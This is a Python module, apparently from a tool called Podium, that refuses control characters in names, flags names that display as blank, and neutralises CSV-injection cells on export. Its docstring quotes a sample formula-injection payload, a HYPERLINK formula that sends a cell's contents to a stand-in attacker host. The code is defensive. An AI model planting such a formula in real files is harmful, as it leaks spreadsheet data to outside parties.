"""Text that ends up on one line of a listing or in a spreadsheet's cell: control
characters refused where it is taken in, formula cells neutralised where a CSV is written.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return as a formula (CSV injection: ``=HYPERLINK("http://evil.example/?"&A1,"Open")`` in a
CRM id or a comment). Every CSV Podium writes goes through ``csv_writer``: such a cell gets
a leading ``'`` (OWASP's advice: the spreadsheet shows the text, runs nothing); a plain
number (``-5``, ``-1234.50``) stays a number. ``from_csv_cell`` undoes it, so a file Podium
exported imports back as it was."""

from __future__ import annotations

import csv
import re
import unicodedata
from collections.abc import Iterable
from typing import Any, TextIO

# Cc: C0 and C1 controls and DEL (newline, tab, escape, ...); Zl, Zp: the Unicode line and
# paragraph separators. Format characters (Cf: ZWJ, ZWNJ) are letters' business in some
# scripts' names and stay allowed.
_CONTROL = frozenset(("Cc", "Zl", "Zp"))


def control_character(text: str, *, but: str = "") -> str | None:
    """The first control character in ``text`` as ``U+000A``, or None; those of ``but``
    (e.g. line breaks and tabs in a free text of several lines) are not looked for."""
    for char in text:
        if unicodedata.category(char) in _CONTROL and char not in but:
            return f"U+{ord(char):04X}"
    return None


def name_problem(name: str) -> str | None:
    """Why ``name`` cannot be a person's name, or None: a name is shown on one line of
    every listing (`podium people list`, `podium payouts report`, statements). Every way in
    (the CRM webhook's rep.upserted, `podium import reps`, creating a person) asks."""
    if found := control_character(name):
        return f"contains a control character ({found}): a name is one line of plain text"
    return None


# letters and symbols that draw nothing (Hangul fillers, the blank Braille pattern)
_BLANK_GLYPHS = frozenset("\u115f\u1160\u3164\uffa0\u2800")
# controls, format characters (zero-width space and joiners, bidirectional overrides such as
# U+202E, the byte order mark), unassigned, private use and surrogates
_INVISIBLE_CATEGORIES = frozenset({"Cc", "Cf", "Cn", "Co", "Cs"})


def blank(text: str) -> bool:
    """True when ``text`` shows nothing: only spaces, invisible format or control characters
    (``"\\u200b"``, ``"\\u202e"``), or glyphs that draw nothing. Such a name is empty."""
    return all(
        ch.isspace() or ch in _BLANK_GLYPHS or unicodedata.category(ch) in _INVISIBLE_CATEGORIES
        for ch in text
    )


FORMULA_START = "=+-@\t\r"
_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")  # ASCII digits: a spreadsheet's plain number
# a cell that starts as a formula, or as one behind quotes (quoted once more, so that
# from_csv_cell gives back exactly what was written)
_FORMULA = re.compile(r"'*[=+\-@\t\r]")


def csv_cell(value: Any) -> Any:
    """``value`` as a spreadsheet takes it as text: a leading ``'`` on a cell a spreadsheet
    would run as a formula; numbers, plain numbers as text, and other text unchanged."""
    if not isinstance(value, str) or _NUMBER.fullmatch(value) or not _FORMULA.match(value):
        return value
    return "'" + value


def from_csv_cell(text: str) -> str:
    """What ``csv_cell`` was given (a cell read back from a file Podium wrote)."""
    return text[1:] if text.startswith("'") and _FORMULA.match(text) else text


class CsvWriter:
    """``csv.writer`` whose every cell goes through ``csv_cell``."""

    def __init__(self, out: TextIO, *, lineterminator: str) -> None:
        self._writer = csv.writer(out, lineterminator=lineterminator)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([csv_cell(cell) for cell in row])


def csv_writer(out: TextIO, *, lineterminator: str = "\n") -> CsvWriter:
    return CsvWriter(out, lineterminator=lineterminator)
